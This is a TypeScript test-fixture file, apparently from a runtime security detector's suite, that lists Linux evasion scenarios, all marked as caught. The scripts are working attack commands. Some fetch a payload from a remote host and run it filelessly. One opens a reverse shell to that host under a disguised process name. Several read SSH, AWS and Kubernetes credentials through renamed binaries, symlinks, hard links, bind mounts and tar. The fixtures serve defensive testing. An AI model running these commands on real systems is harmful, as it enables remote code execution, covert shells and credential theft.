import { evasions, HUNTED, SECRETS } from "./evasion.ts";
import { prepared, PROGRAM } from "./program.ts";

const DROP = ["T1105", "T1059", "T1059.004", "T1204", "T1036", "T1036.005"] as const;
const FILELESS = ["T1620", ...DROP] as const;

/** Files under other names, in other places, or in none. */
export const FILES = evasions([
  {
    id: "evasion.memfd",
    title: "a program from the network, copied into memory and executed by its descriptor",
    techniques: FILELESS,
    needs: ["cc", "curl"],
    prepare: prepared(),
    script: `act; curl -s -o $HOOD/x http://$FAR/payload; ${PROGRAM} memfd $HOOD/x sshd -c 'id; exec 3<>/dev/tcp/'$FAR'/8443; read -r -t 1 <&3'`,
    hides: "hidden",
    outcome: "caught",
    because: "an exec tells whether its file has a name, lies in memory, or was removed",
  },
  {
    id: "evasion.fexecve-removed",
    title: "a program that is removed before it is executed by its descriptor",
    techniques: [...FILELESS, "T1070.004"],
    needs: ["python3", "curl"],
    variant: "scripted",
    script: `act; curl -s -o $HOOD/x http://$FAR/payload; chmod 755 $HOOD/x; python3 -c 'import os
p=os.environ["HOOD"]+"/x"; fd=os.open(p,os.O_RDONLY); os.unlink(p); os.execve(fd,["sshd","-c","id; exec 3<>/dev/tcp/"+os.environ["FAR"]+"/8443; read -r -t 1 <&3"],dict(os.environ))'`,
    hides: "hidden",
    outcome: "caught",
    because: "an exec tells whether its file has a name, lies in memory, or was removed",
  },
  {
    id: "evasion.copied-shell",
    title: "a copy of the shell under the name of a system daemon, its arguments overwritten",
    techniques: ["T1059", "T1059.004", "T1095", "T1071", "T1571", "T1036", "T1036.005"],
    needs: ["bash"],
    variant: "renamed",
    script:
      "act; mkdir -p /run/systemd-x; cp /bin/bash /run/systemd-x/systemd-udevd; /run/systemd-x/systemd-udevd -c 'exec -a [kworker/0:1] /run/systemd-x/systemd-udevd -i >& /dev/tcp/'$FAR'/4444 0>&1'",
    hides: "reverse-shell",
    outcome: "caught",
    because: "a shell at a connection is known by what its descriptors are, not by its name",
  },
  {
    id: "evasion.copied-reader",
    title: "secrets read by a copy of cat under the name of a backup program",
    techniques: [...HUNTED, "T1036", "T1036.005"],
    variant: "renamed",
    script: `act; cp /bin/cat $HOOD/rsync; $HOOD/rsync ${SECRETS} > /dev/null; sleep 0.5`,
    hides: "credentials",
    outcome: "caught",
    because: "who may read everything is excused by its file in a system folder, not by its name",
  },
  {
    id: "evasion.symlinked-secrets",
    title: "secrets read through symbolic links with harmless names",
    techniques: HUNTED,
    script: `i=0; for f in ${SECRETS}; do i=$((i+1)); ln -s $f $HOOD/notes-$i.txt; done; act; cat $HOOD/notes-*.txt > /dev/null; sleep 0.5`,
    hides: "credentials",
    outcome: "caught",
    because: "of an open that succeeded the kernel's own path is taken, which is the link's end",
  },
  {
    id: "evasion.hardlinked-secrets",
    title: "secrets read through hard links with harmless names",
    techniques: HUNTED,
    script: `mkdir -p /root/n; act; i=0; for f in /root/.ssh/id_rsa /root/.aws/credentials /root/.kube/config /root/.bash_history; do i=$((i+1)); ln $f /root/n/notes-$i.txt; done; cat /root/n/notes-*.txt > /dev/null; sleep 0.5`,
    hides: "credentials",
    outcome: "caught",
    because:
      "a hard link is a second true path, which nothing shows to be a secret: who gives secrets other names is told as who seeks them, and who reads one by a name that his own line of processes gave it has read the secret",
  },
  {
    id: "evasion.bound-secrets",
    title: "secrets read through bind mounts with harmless names, in a mount namespace of its own",
    techniques: [...HUNTED, "T1611"],
    needs: ["unshare", "mount"],
    script: `mkdir -p $HOOD/n; act; unshare --mount sh -c 'i=0; for f in ${SECRETS}; do i=$((i+1)); : > $HOOD/n/$i; mount --bind $f $HOOD/n/$i; done; cat $HOOD/n/* > /dev/null'; sleep 0.5`,
    hides: "credentials",
    outcome: "caught",
    because:
      "the kernel's path of a file that is bound elsewhere is the place that it is bound to, and what was bound where is remembered by the names that were typed, for the line of processes that bound it alone, so that nobody else is suspected for what he finds there",
  },
  {
    id: "evasion.copier",
    title: "the system's own tar, which reads everything at night, packs the secrets",
    techniques: [...HUNTED, "T1560", "T1560.001"],
    needs: ["tar"],
    script: `act; tar cf $HOOD/x.tar ${SECRETS} 2> /dev/null; sleep 0.5`,
    hides: "credentials",
    outcome: "caught",
    because:
      "what reads everything is excused where a schedule or a person starts it, and not where a server's shell does",
  },
  {
    id: "evasion.framed-job",
    title: "links to secrets, laid where another's job reads whatever lies there, so that the job is suspected",
    techniques: HUNTED,
    // Somebody else's: in a group of its own, and nobody of the story starts it.
    prepare:
      "mkdir -p $HOOD/inbox; chmod 777 $HOOD/inbox; (sleep 3; cat $HOOD/inbox/* > /dev/null; sleep 2) < /dev/null > /dev/null 2>&1 &",
    script: `act; ln -s ${SECRETS} $HOOD/inbox/; sleep 5`,
    hides: "credentials",
    outcome: "caught",
    because:
      "who lays a link to a secret answers for it once it is followed; rules go by who opened what, and may name the reader as well",
  },
]);
